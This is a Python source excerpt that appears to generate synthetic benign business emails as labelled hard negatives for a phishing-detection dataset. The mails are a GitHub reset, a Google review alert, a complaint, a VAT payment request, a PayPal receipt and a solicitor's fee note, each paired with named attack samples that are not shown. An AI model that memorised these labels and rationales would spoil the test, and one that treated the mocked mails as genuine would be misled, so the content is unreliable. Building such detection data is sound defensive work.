    ua = U.Plain(rng, order=["Date", "From", "To", "Message-ID", "Subject", "Mime-Version", "Content-Type", "Content-Transfer-Encoding", "X-Auto-Response-Suppress"],
                 msgid_fn=lambda r, tt: "<%s_%s@lowworker-%s-%s.mail>" % (hexid(r, 13), hexid(r, 6), hexid(r, 9), alnum(r, 5, "abcdefghijklmnopqrstuvwxyz0123456789")),
                 boundary_fn=lambda r, k: "--==_mimepart_%s_%s" % (hexid(r, 13), hexid(r, 6)),
                 extra=[("X-Auto-Response-Suppress", "All")])
    mid = ua.msgid(t, "")
    token = alnum(rng, 40, "abcdefghijklmnopqrstuvwxyz0123456789")
    link = "https://github.com/password_reset/%s" % token
    txt = """We heard that you lost your GitHub password. Sorry about that!

But don't worry! You can use the following link to reset your password:

%s

If you don't use this link within 3 hours, it will expire. To get a new password reset link, visit https://github.com/password_reset

Thanks,
The GitHub Team
""" % link
    html = S.esp_html("Reset your GitHub password", ["GitHub password reset",
                                                      "We heard that you lost your GitHub password. Sorry about that!",
                                                      "But don't worry! You can use the following button to reset your password:"],
                      ("Reset your password", link), "If you don't use this link within 3 hours, it will expire. To get a new password reset link, visit https://github.com/password_reset\n"
                      "GitHub, Inc. ・88 Colin P Kelly Jr Street ・San Francisco, CA 94107", brand_color="#2da44e")
    body = S.alt(txt, html, ua.boundary(), "UTF-8", "7bit", "quoted-printable", quote_charset=False)
    h = {"From": addr("GitHub", "noreply@github.com"), "To": "felix.bauer@example.com", "Subject": "[GitHub] Please reset your password"}
    return Mail("business", "en", "github-password-reset", t, route, ua, "felix.bauer@example.com", "noreply@github.com",
                h, body, mid, zone="UTC", date_lag=-1,
                what="GitHub password-reset mail requested by the mail administrator",
                why="GitHub's own outbound servers (out-21.smtp.github.com), Message-ID and template as GitHub sends them; link to github.com only; user-initiated.")


def b_google_review():
    rng = rng_for("b", "en-gbp")
    t = utc("2026-11-23 18:47:20")
    route = R.Service("mail-sor-f69.google.com", "mail-sor-f69.google.com", "209.85.220.69", tls="1.3", zone="PT",
                      inner="Received: by mail-sor-f69.google.com with SMTPS id %s-%s.%d\n        for <{rcpt}>\n        (Google Transport Security);\n        {date}" % (hexid(rng, 13), hexid(rng, 12), rng.randrange(1, 9)))
    ua = U.Plain(rng, order=["MIME-Version", "Date", "Reply-To", "Message-ID", "Subject", "From", "To", "Content-Type"],
                 msgid_fn=lambda r, tt: "<%s@google.com>" % ("000000000000" + hexid(r, 16)),
                 boundary_fn=lambda r, k: "000000000000" + hexid(r, 16))
    mid = ua.msgid(t, "")
    rid = alnum(rng, 40, U.B64 + "_-")
    blocks = ["**Sam R.** left a review for **Example Fitness Manchester - King Street**",
              "★★☆☆☆\n\"Good equipment and friendly trainers, but the showers on the ground floor have been cold for two weeks now and nobody at reception seems to know when it will be fixed.\"",
              "Replying to reviews shows customers that you value their feedback."]
    link = "https://business.google.com/reviews/l/%d?review=%s&hl=en-GB" % (rng.randrange(10 ** 18, 10 ** 19), rid)
    html = S.esp_html("You've got a new review", blocks, ("Reply to review", link),
                      "You've received this email because you manage this Business Profile.\nGoogle LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA",
                      brand_color="#1a73e8", logo_text="Google Business Profile")
    txt = S.esp_plain("You've got a new review", blocks, ("Reply to review", link), "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA")
    body = S.alt(txt, html, ua.boundary(), "UTF-8", "quoted-printable", "quoted-printable")
    h = {"Reply-To": addr("Google Business Profile", "businessprofile-noreply@google.com"),
         "Subject": "You've got a new review on Example Fitness Manchester - King Street",
         "From": addr("Google Business Profile", "businessprofile-noreply@google.com"), "To": "oliver.bennett@example.com"}
    env = "3%s@scoutcamp.bounces.google.com" % alnum(rng, 60, U.B64 + "-")
    return Mail("business", "en", "google-business-profile-review", t, route, ua, "oliver.bennett@example.com", env,
                h, body, mid, zone="PT", date_lag=-2, pair="attack/14",
                what="Google Business Profile notification of a new 2-star review",
                why="Google's own sender and mail-sor relay, bounce address at google.com, link to business.google.com, no attachment and no deadline. "
                    "Hard negative of attack/14 (fake review alert with ClickFix page).")


def b_member_complaint():
    rng = rng_for("b", "en-complaint")
    t = utc("2026-11-09 19:41:12")
    route = R.O365(rng, consumer=True)
    ua = U.OutlookExchange(rng, route.fqdn(), lang="en-GB", online=True, org="sct-15-20-9094-28-msonline-outlook-1a2b3.templateTenant")
    mid = ua.msgid(t, "")
    src = """Dear Sir/Madam,

I am writing to complain about my membership at your King Street gym (membership no. MAN-204417).

I cancelled my membership at reception on 28 September and was told the last payment would be taken on 1 October. However, on 1 November I was charged again - and not once but twice (2 x £44.99), as you can see on my bank statement.

I have already spoken to the reception team twice and was told "head office will sort it", but nothing has happened. I would like both November payments refunded and written confirmation that my membership has ended. If this is not resolved within 14 days I will raise an indemnity claim with my bank under the Direct Debit Guarantee.

I would also like to point out that the women's showers on the ground floor were cold for most of October.

Regards,
Sarah Pritchard
07700 900418
"""
    body = S.alt(S.plain(src), S.outlook_html(src, "EN-GB", "Windows-1252"), ua.boundary("alt"), "Windows-1252", "quoted-printable", "quoted-printable")
    h = {"From": addr("Sarah Pritchard", "sarah.pritchard84@hotmail.co.uk"),
         "To": addr("Oliver Bennett", "oliver.bennett@example.com"),
         "Subject": "Complaint - charged twice after cancelling membership MAN-204417"}
    return Mail("business", "en", "member-complaint-double-charge", t, route, ua, "oliver.bennett@example.com",
                "sarah.pritchard84@hotmail.co.uk", h, body, mid, zone="UTC", date_lag=-3,
                what="A member complains from Outlook.com about being charged twice after cancelling",
                why="Ordinary consumer mailbox on Outlook.com infrastructure; concrete membership number, dates and amounts; threatens a Direct Debit indemnity claim "
                    "(a legitimate consumer right), asks for a refund to her own bank - no links, no payment request.")


def b_vat_internal():
    t = utc("2026-11-02 15:05:48")
    vat = org.TAX["eg_uk_vat"]
    src = """Hi Sabine,

Quick update on UK VAT: I filed the return for period 07 26 (July to September) today via our MTD software. HMRC has acknowledged it (receipt 4471-0932-1187).

Net VAT payable: £18,934.20
Due date: 7 November 2026 (electronic payment)

Please release the payment to HMRC as usual by Faster Payments:
Payee: HMRC VAT
Sort code: 08 32 00
Account number: 11963155
Reference: our VAT registration number (%s without spaces)

These are HMRC's standard published details - they have not changed. The VAT workings are in the Finance SharePoint under UK/VAT/2026-Q3.

Thanks,
Priya

Priya Shah
Accountant UK
Example Group UK Ltd | 82 King Street | Manchester M2 4WQ
""" % vat
    return internal("en", "uk-vat-return-filed-payment", t, "priya.shah", staff("sabine.weiss"),
                    "UK VAT return 07 26 filed - payment to HMRC due 7 November", src, charset="iso-8859-1",
                    cc=staff("nadine.vogel"), lang_tag="en-GB", html_lang="EN-GB", client_ip="10.60.2.14",
                    pair="attack/11",
                    what="UK accountant tells the CFO that the Q3 VAT return was filed via MTD and asks her to pay HMRC",
                    why="Internal sender through Exchange and mail-int01; HMRC's published VAT bank details; references an MTD receipt and internal workings. "
                        "Hard negative of attack/11 (HMRC VAT phishing).")


def b_paypal_receipt():
    rng = rng_for("b", "en-paypal")
    t = utc("2026-10-26 13:22:51")
    route = _paypal(rng)
    ua = U.Plain(rng, order=["Date", "Message-ID", "X-PP-REQUESTED-TIME", "X-PP-Email-transmission-Id", "PP-Correlation-Id",
                             "Subject", "X-MaxCode-Template", "To", "From", "X-Email-Type-Id", "MIME-Version", "Content-Type"],
                 msgid_fn=lambda r, tt: "<%s.%d.%d@paypal.com>" % (hexid(r, 13), int(tt.timestamp()), r.randrange(10 ** 5, 10 ** 6)),
                 boundary_fn=lambda r, k: "--%s-%s" % (hexid(r, 12), hexid(r, 8)),
                 extra=[("X-PP-REQUESTED-TIME", str(int(t.timestamp() * 1000) - 1800)), ("X-PP-Email-transmission-Id", uuid4(rng)),
                        ("PP-Correlation-Id", hexid(rng, 13)), ("X-MaxCode-Template", "PPC000797"), ("X-Email-Type-Id", "PPC000797")])
    mid = ua.msgid(t, "")
    txid = alnum(rng, 17, "0123456789ABCDEFGHJKLMNPRSTUVWXY")
    blocks = ["Hello, Example Group UK Ltd",
              "You sent a payment of **£146.40 GBP** to Lanyard & Badge Co Ltd (sales@lanyardandbadge.co.uk)",
              "It may take a few moments for this transaction to appear in your account.",
              "Transaction ID: %s\nTransaction date: 26 October 2026\nItem: 120 x printed member lanyards, Manchester King Street\nSubtotal: £122.00\nVAT: £24.40\nTotal: £146.40 GBP\nPayment: PayPal balance" % txid]
    html = S.esp_html("Receipt for your payment", blocks, ("View transaction details", "https://www.paypal.com/activity/payment/%s" % txid),
                      "Help & Contact | Security | Apps\nPayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.\n"
                      "Copyright © 1999-2026 PayPal, Inc. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg.",
                      brand_color="#003087", logo_text="PayPal")
    txt = S.esp_plain("Receipt for your payment", blocks, ("View transaction details", "https://www.paypal.com/activity/payment/%s" % txid))
    body = S.alt(txt, html, ua.boundary(), "UTF-8", "quoted-printable", "quoted-printable")
    h = {"Subject": "Receipt for your payment to Lanyard & Badge Co Ltd", "To": "priya.shah@example.com",
         "From": addr("service@paypal.co.uk", "service@paypal.co.uk")}
    return Mail("business", "en", "paypal-payment-receipt", t, route, ua, "priya.shah@example.com", "service@paypal.co.uk",
                h, body, mid, zone="PT", date_lag=-2, pair="attack/15",
                what="PayPal receipt for a small purchase of member lanyards",
                why="PayPal's real infrastructure and template, a purchase the UK office made itself, no phone number or urgent call to action. Hard negative of attack/15.")


def b_solicitors():
    rng = rng_for("b", "en-solicitors")
    t = utc("2026-12-03 10:48:26")
    route = R.O365(rng, region="eurprd06")
    ua = U.OutlookExchange(rng, route.fqdn(), lang="en-GB", online=True, org="whitfieldrowe.co.uk")
    mid = ua.msgid(t, "")
    src = """Dear Oliver,

Without prejudice save as to costs - Unit 2, 82 King Street

Further to our call on Monday, the landlord's surveyor has now served the schedule of dilapidations for the former ground-floor unit. Their claim is £61,250 plus VAT. Having reviewed it with our building surveyor, we consider a realistic settlement range to be £22,000-£27,000, mainly because the landlord intends to strip out the shower block anyway.

Unless you or Sabine instruct otherwise, we propose to make a without-prejudice offer of £21,500 inclusive, open for 21 days. Please confirm by Friday if you are happy for us to proceed.

I also attach our interim fee note for work to date (£4,860.00 incl. VAT). Payment details are on the fee note and are the same as in our engagement letter of March 2025. Please note that we will never notify changes to our bank details by email - if you ever receive such a message in our name, please call us on 0161 496 0350 before making any payment.

Kind regards,

Daniel Rowe
Partner | Whitfield & Rowe LLP
Bridge House, 14 Bridge Street, Manchester M3 3BW
Authorised and regulated by the Solicitors Regulation Authority (SRA no. 612904)
"""
    fee = ["##Whitfield & Rowe LLP", "Bridge House, 14 Bridge Street, Manchester M3 3BW", "",
           "**Interim fee note WR/26/1187", "Client: Example Group UK Ltd - Matter: Unit 2, 82 King Street (dilapidations)", "",
           "Professional charges to 30 November 2026                 £4,050.00", "VAT at 20%                                                     £810.00",
           "**Total due                                                      £4,860.00", "",
           "Payment within 30 days to: Whitfield & Rowe LLP Office Account",
           "Barclays Bank UK PLC - sort code 20-20-15 - account 73618204",
           "IBAN %s - BIC %s" % (G(B["whitfield"][2]), B["whitfield"][1]),
           "Please quote WR/26/1187. We never change our bank details by email."]
    atts = [pdf_att([fee], "Fee note WR-26-1187.pdf", title="Fee note WR/26/1187", author="Whitfield & Rowe LLP",
                    producer="Microsoft® Word for Microsoft 365", creator="Microsoft® Word for Microsoft 365", created="D:20261203102211Z")]
    body = mixed(S.outlook_alt(src, ua.boundary("alt"), "iso-8859-1", "quoted-printable", "EN-GB"), atts, ua.boundary("mixed"))
    h = {"From": addr("Daniel Rowe", "d.rowe@whitfieldrowe.co.uk"),
         "To": addr("Oliver Bennett", "oliver.bennett@example.com"),
         "Cc": addr("Sabine Weiß", "sabine.weiss@example.com", "iso-8859-1"),
         "Subject": "Without prejudice - Unit 2, 82 King Street - dilapidations settlement / interim fee note"}
    return Mail("business", "en", "solicitors-dilapidations-fee-note", t, route, ua, "oliver.bennett@example.com",
                "d.rowe@whitfieldrowe.co.uk", h, body, mid, zone="UTC", date_lag=-3, pair="attack/12",
                what="The company's own solicitors advise on a dilapidations claim and attach an interim fee note",
                why="Known law firm on its own Microsoft 365 tenant, matter known to both recipients, CFO in Cc, bank details unchanged since the engagement letter "
                    "and an explicit warning about e-mailed bank changes. Legal/payment topic - hard negative of attack/12.")


ATTACKS = [a_docusign_html, a_voicemail_svg, a_hmrc_vat, a_fake_lawyer, a_device_code, a_clickfix, a_paypal_callback, a_sextortion]
BUSINESS = [b_docusign, b_microsoft_signin, b_github_reset, b_google_review, b_member_complaint, b_vat_internal, b_paypal_receipt, b_solicitors]
